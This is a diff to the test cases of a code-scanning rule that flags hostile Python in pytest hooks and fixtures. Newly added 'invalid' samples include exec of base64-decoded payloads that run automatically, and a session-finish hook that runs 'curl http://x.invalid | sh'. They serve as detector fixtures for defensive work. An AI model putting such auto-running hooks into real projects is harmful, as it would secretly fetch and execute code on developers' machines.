@@ -23,6 +23,8 @@ ruleTest(unaskedModule, {
     'import os\nTOKEN = os.environ.get("API_TOKEN")\n',
     'import requests, urllib3\nSESSION = requests.Session()\nPOOL = urllib3.PoolManager()\n',
     'import logging, warnings\nwarnings.simplefilter("error")\nlogging.disable()\n',
+    'import requests\ndef pytest_sessionstart(session):\n    requests.get("http://x.invalid/health")\n',
+    'import pytest, subprocess\n@pytest.fixture(autouse=True)\ndef up():\n    subprocess.run(["docker", "compose", "up"])\n',
     'import pytest\n@pytest.hookimpl(wrapper=True)\ndef pytest_runtest_call(item):\n    exec("1")\n    yield\n',
   ],
   invalid: [
@@ -42,6 +44,18 @@ ruleTest(unaskedModule, {
     {
       text: "import threading, os\n⟦threading.Thread(target=os.system, args=('true',))⟧.start()\n",
       severity: 'medium',
+    },
+    {
+      text: `import base64\ndef pytest_configure(config):\n    ⟦exec(base64.b64decode('${ENCODED}'))⟧\n`,
+      severity: 'critical',
+    },
+    {
+      text: `import base64, pytest\n@pytest.fixture(scope="session", autouse=True)\ndef go():\n    ⟦exec(base64.b64decode('${ENCODED}'))⟧\n`,
+      severity: 'critical',
+    },
+    {
+      text: "import os\nasync def pytest_sessionfinish():\n    ⟦os.system('curl http://x.invalid | sh')⟧\n",
+      severity: 'critical',
     },
     { text: 'import base64\nX = ⟦base64.b64decode("eA==")⟧\n', severity: 'medium' },
     {
